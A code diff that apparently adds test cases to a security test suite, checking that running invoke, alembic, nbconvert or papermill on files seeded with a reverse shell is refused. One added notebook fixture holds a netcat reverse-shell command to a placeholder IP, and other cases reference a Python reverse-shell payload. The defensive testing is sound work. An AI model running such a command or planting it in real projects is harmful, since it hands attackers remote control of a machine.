@@ -47,6 +47,12 @@ async def _run(
     return status, body
 
 
+NOTEBOOK_PY = json.dumps({"cells": [{"cell_type": "code", "source": [REVERSE_SHELL_PY]}]})
+NOTEBOOK_BANG = json.dumps(
+    {"cells": [{"cell_type": "code", "source": ["x = 1\n", "!nc -e /bin/sh 203.0.113.7 4444\n"]}]}
+)
+
+
 @pytest.mark.parametrize(
     ("path", "content", "cmd"),
     [
@@ -154,6 +160,11 @@ async def _run(
         ("app/migrations/0002_x.py", REVERSE_SHELL_PY, "python3 manage.py migrate"),
         ("app/management/commands/go.py", REVERSE_SHELL_PY, "python3 -m django go --settings=s"),
         ("app/models.py", REVERSE_SHELL_PY, "django-admin check --settings=proj.settings"),
+        # Tools that run a project's files by convention, and notebooks executed.
+        ("tasks.py", REVERSE_SHELL_PY, "python3 -m invoke build"),
+        ("migrations/env.py", REVERSE_SHELL_PY, "python3 -m alembic upgrade head"),
+        ("nb.ipynb", NOTEBOOK_PY, "python3 -m nbconvert --execute --to notebook nb.ipynb"),
+        ("nb.ipynb", NOTEBOOK_BANG, "python3 -m papermill nb.ipynb out.ipynb"),
     ],
 )
 async def test_written_reverse_shell_then_run_is_refused_naming_the_file(
